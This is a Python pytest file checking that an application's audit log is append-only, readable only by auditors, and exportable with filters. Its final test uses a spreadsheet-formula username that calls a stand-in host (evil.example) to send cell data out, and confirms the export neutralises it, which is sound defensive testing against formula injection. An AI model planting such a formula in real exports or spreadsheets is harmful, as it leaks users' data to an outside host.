"""The audit log is append-only and the auditor can filter and export it (DOMAIN §8)."""

import csv
import io

import pytest
import sqlalchemy as sa

from app.core import audit
from app.core.audit import AuditEvent, AuditLogImmutable
from app.core.permissions import Role
from tests.exports import flow
from tests.helpers import csrf_token


@pytest.fixture
def event(db, make):
    row = audit.record("test.action", actor=make.user(Role.ADMIN), details={"k": "v"})
    db.session.commit()
    return row


def test_orm_update_of_an_audit_row_is_refused(db, event):
    event.action = "rewritten"
    with pytest.raises(AuditLogImmutable):
        db.session.flush()
    db.session.rollback()


def test_orm_delete_of_an_audit_row_is_refused(db, event):
    db.session.delete(event)
    with pytest.raises(AuditLogImmutable):
        db.session.flush()
    db.session.rollback()


@pytest.mark.parametrize("statement", [
    sa.update(AuditEvent).values(action="rewritten"),
    sa.delete(AuditEvent),
])
def test_bulk_orm_statements_on_audit_rows_are_refused(db, event, statement):
    with pytest.raises(AuditLogImmutable):
        db.session.execute(statement)


@pytest.mark.parametrize("sql", [
    "UPDATE audit_events SET action = 'rewritten'",
    "DELETE FROM audit_events",
])
def test_the_database_itself_refuses_changes_to_audit_rows(db, event, sql):
    """Even plain SQL, bypassing the application, cannot rewrite history (migration triggers)."""
    with pytest.raises(sa.exc.DatabaseError, match="append-only"), db.session.begin_nested():
        db.session.connection().exec_driver_sql(sql)
    assert db.session.get(AuditEvent, event.id).action == "test.action"


def test_record_keeps_actor_name_and_role(db, make):
    user = make.user(Role.DISPATCHER)
    row = audit.record("x.y", actor=user, obj=user)
    assert (row.actor_name, row.actor_role, row.object_type, row.object_id) == (
        user.username, "dispatcher", "users", str(user.id))


@pytest.mark.parametrize("role", list(Role))
def test_only_auditors_read_the_audit_log(client, make, login_as, role):
    login_as(make.user(role))
    expected = 200 if role == Role.AUDITOR else 403
    assert client.get("/audit/").status_code == expected
    token = csrf_token(client, "/auth/change-password")
    assert client.post("/audit/export.csv", data={"csrf_token": token}).status_code == (
        302 if role == Role.AUDITOR else 403)


def test_audit_page_filters_by_outcome_and_user(client, make, login_as, db):
    login_as(make.user(Role.AUDITOR))
    audit.record("auth.sign_in", actor_name="mallory", success=False)
    audit.record("auth.sign_in", actor_name="alice", success=True)
    db.session.commit()
    text = client.get("/audit/?success=0").get_data(as_text=True)
    assert "mallory" in text and "alice" not in text
    text = client.get("/audit/?actor=ali").get_data(as_text=True)
    assert "alice" in text and "mallory" not in text


def test_invalid_date_filter_is_ignored_not_an_error(client, make, login_as):
    login_as(make.user(Role.AUDITOR))
    assert client.get("/audit/?date_from=not-a-date").status_code == 200


def test_export_contains_the_filtered_rows_and_is_itself_audited(client, make, login_as, db):
    auditor = make.user(Role.AUDITOR)
    login_as(auditor)
    for name in ("甲", "乙", "丙"):
        audit.record("demo.export_me", actor_name=name, details={"说明": name})
    audit.record("demo.other", actor_name="丁")
    db.session.commit()
    response = flow.export(client, "/audit/export.csv?action=demo.export")
    body = response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert [r[1] for r in rows[1:]] == ["丙", "乙", "甲"]
    assert rows[-1][9] == '{"说明": "甲"}'  # details kept readable, not \u-escaped
    export = db.session.scalars(sa.select(AuditEvent).where(
        AuditEvent.action == "audit.export")).one()
    assert export.actor_id == auditor.id and export.details["rows"] == 3


def test_a_failed_sign_in_with_a_formula_for_a_username_exports_as_inert_text(client, db):
    from openpyxl import load_workbook

    from app.audit import export as audit_export
    from app.audit.queries import audit_query
    from tests.helpers import sign_in

    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    sign_in(client, hostile, "wrong password")
    db.session.commit()
    assert db.session.scalar(sa.select(AuditEvent.actor_name).where(
        AuditEvent.success.is_(False))) == hostile
    xlsx, text = io.BytesIO(), io.BytesIO()
    audit_export.write(audit_query(success="0"), "xlsx", xlsx)
    audit_export.write(audit_query(success="0"), "csv", text)
    cell = load_workbook(xlsx).active["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (hostile, "s", True)
    rows = list(csv.reader(io.StringIO(text.getvalue().decode("utf-8-sig"))))
    assert rows[1][1] == "'" + hostile
